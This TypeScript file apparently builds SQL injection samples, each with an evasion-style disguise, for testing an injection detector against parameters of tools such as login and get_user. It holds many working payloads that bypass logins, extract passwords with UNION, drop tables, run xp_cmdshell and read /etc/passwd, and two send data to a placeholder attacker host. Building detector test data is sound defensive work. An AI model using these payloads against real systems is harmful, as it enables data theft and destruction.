/** SQL injection, by the ways of getting out of a literal and what is done there. */
import type { Draw } from '../detect/draw.ts'
import { fill } from './case.ts'
import type { Family } from './case.ts'
import { lists } from './lists.ts'

const where: Family['where'] = [
  ['search_products', 'query'],
  ['get_user', 'user_id'],
  ['find_customer', 'name'],
  ['login', 'username'],
  ['lookup_order', 'order_id'],
  ['list_items', 'filter'],
  ['get_report', 'category'],
  ['track', 'reference'],
]

/** Spellings that mean the same to the database. */
function disguise(draw: Draw, text: string): string {
  const way = draw.int(0, 11)
  if (way === 0) return text.replaceAll(' ', '/**/')
  if (way === 1)
    return Array.from(text)
      .map((c) => (draw.chance(0.5) ? c.toUpperCase() : c.toLowerCase()))
      .join('')
  if (way === 2) return encodeURIComponent(text).replaceAll("'", '%27')
  if (way === 3) return text.replaceAll(' ', '\t')
  if (way === 4) return encodeURIComponent(encodeURIComponent(text).replaceAll("'", '%27'))
  if (way === 5) return text.replaceAll(' ', '  ')
  return text
}

function family(name: string, isHeldOut: boolean, templates: readonly string[]): Family {
  return {
    name,
    isAttack: true,
    isHeldOut,
    weight: 1,
    where,
    make: (draw) => disguise(draw, fill(draw, draw.pick(templates), lists)),
  }
}

export const sqlAttacks: readonly Family[] = [
  family('SQL: tautology', false, [
    "' OR '1'='1",
    "' OR 1=1 --",
    "{login}' OR '1'='1' --",
    "' OR 'a'='a",
    "{word}' or {n}={n}#",
    '{big} OR 1=1',
    '{big}) OR (1=1',
    "') OR ('1'='1",
    "' OR ''='",
    '" OR "1"="1',
    '{word}" or 1=1 --',
    "' or true--",
    "{login}'/*",
    "{login}' --",
    "{login}' #",
    "' OR 1=1 LIMIT 1 -- -",
    '{big} or 2>1',
    "x' OR {column} IS NOT NULL --",
    "' || '1'='1' --",
    "{big}' AND 1=1 --",
    '{big} AND 1=2',
    "{first}' OR 'x' LIKE 'x",
    "1' OR '1'='1' AND '{column}'='{column}",
  ]),
  family('SQL: union', false, [
    "' UNION SELECT {column}, {secret} FROM {table} --",
    '-1 UNION SELECT 1,2,3',
    "{word}' UNION ALL SELECT NULL,NULL,{secret} FROM {table}--",
    '{big} UNION SELECT username, password FROM users',
    "') UNION SELECT table_name FROM information_schema.tables --",
    '{big} union all select null,@@version,null#',
    "{word}%' UNION SELECT name, sql FROM sqlite_master--",
    "-{n}' UNION SELECT 1,group_concat({secret}),3 FROM {table}-- -",
    '0" UNION SELECT {column},{secret} FROM {table} -- ',
    '1 UNION ALL SELECT CONCAT(user,0x3a,password),2 FROM mysql.user',
  ]),
  family('SQL: stacked', false, [
    "'; DROP TABLE {table}; --",
    '{big}; DELETE FROM {table}',
    "{word}'; UPDATE {table} SET {column}='x' WHERE 1=1 --",
    "Robert'); DROP TABLE students;--",
    "{big}; EXEC xp_cmdshell('whoami')",
    "'; INSERT INTO {table} VALUES ('{login}','{secret}'); --",
    '1; TRUNCATE TABLE {table}',
    "'; SHUTDOWN --",
    "{word}'; ALTER TABLE {table} DROP COLUMN {column}--",
    "x'; EXEC sp_configure 'show advanced options', 1; RECONFIGURE--",
    '{big};SELECT pg_sleep({n})--',
  ]),
  family('SQL: time and errors', false, [
    "' AND SLEEP({n}) --",
    '{big} AND SLEEP({n})',
    "'; WAITFOR DELAY '0:0:{n}' --",
    "' || pg_sleep({n}) --",
    '{big} AND (SELECT * FROM (SELECT(SLEEP({n})))a)',
    "1' AND BENCHMARK(5000000,MD5('a'))#",
    "' AND extractvalue(1,concat(0x7e,(SELECT version()))) --",
    "' AND 1=CONVERT(int,(SELECT @@version)) --",
    '{big} AND updatexml(1,concat(0x7e,user()),1)',
    "{big}' AND (SELECT COUNT(*) FROM {table}) > 0 --",
    "' AND ASCII(SUBSTRING((SELECT {secret} FROM {table} LIMIT 1),1,1))>{n} --",
    '{big} AND 1=(SELECT 1 FROM pg_sleep({n}))',
    '1 AND IF(1=1,SLEEP({n}),0)',
    "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',{n}) --",
    "' OR (SELECT LOAD_FILE('/etc/passwd')) IS NOT NULL --",
  ]),
  family('SQL: probing', false, [
    "' ORDER BY {n}--",
    '{big} ORDER BY {n}--',
    "' HAVING 1=1 --",
    "' GROUP BY {column} HAVING 1=1--",
    "{word}' AND '1'='2",
    "1' INTO OUTFILE '/tmp/x' -- -",
    "'||(SELECT {secret} FROM {table} WHERE ROWNUM=1)||'",
    "'+(SELECT TOP 1 {secret} FROM {table})+'",
    "{word}') ORDER BY 1--",
    "', (SELECT {secret} FROM {table} LIMIT 1)) --",
  ]),
  family('SQL: held-out ways', true, [
    "anything' OR {n}+{n}={n}+{n} -- comment",
    "{login}') OR EXISTS(SELECT 1 FROM {table} WHERE {column}='{login}') -- ",
    "{first}' XOR (1=1) XOR '",
    '{big}/**/OR/**/{n}<{big}',
    "{word}' AND {column} LIKE '%{word}%' OR 1 BETWEEN 0 AND 2 -- ",
    '1e0UNION SELECT {secret},2 FROM {table}',
    '{big} RLIKE (SELECT CASE WHEN (1=1) THEN 1 ELSE 0x28 END)',
    "';DECLARE @q varchar(99);SET @q='drop table {table}';EXEC(@q)--",
    "{word}'));DROP/**/TABLE/**/{table};--",
    '{big} AND ROW(1,1)>(SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM {table} GROUP BY x)',
    '%27%20UNION%20SELECT%20{secret}%20FROM%20{table}--%20-',
    "{first}'||UTL_HTTP.REQUEST('http://{evil}/'||(SELECT {secret} FROM {table}))||'",
    "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    '{big} PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)',
    "{word}' OR NOT 1=2 #",
    "{big}' AND randomblob(500000000/2) IS NULL --",
    '{word}") OR ("a"="a',
    '{big}) UNION ALL (SELECT {column},{secret} FROM {table}) -- ',
    "{login}' AND password LIKE 'a%' -- ",
    "1'; COPY {table} TO PROGRAM 'curl http://{evil}' --",
    "\\' OR 1=1 -- ",
    "{login}'/**/oR/**/'q'/**/like/**/'q",
    '{big} OR {big}={n} OR {n}={n}',
    "' /*!50000UNION*/ /*!50000SELECT*/ {secret} /*!50000FROM*/ {table}-- -",
    '{word}’ or ’1’=’1',
  ]),
]
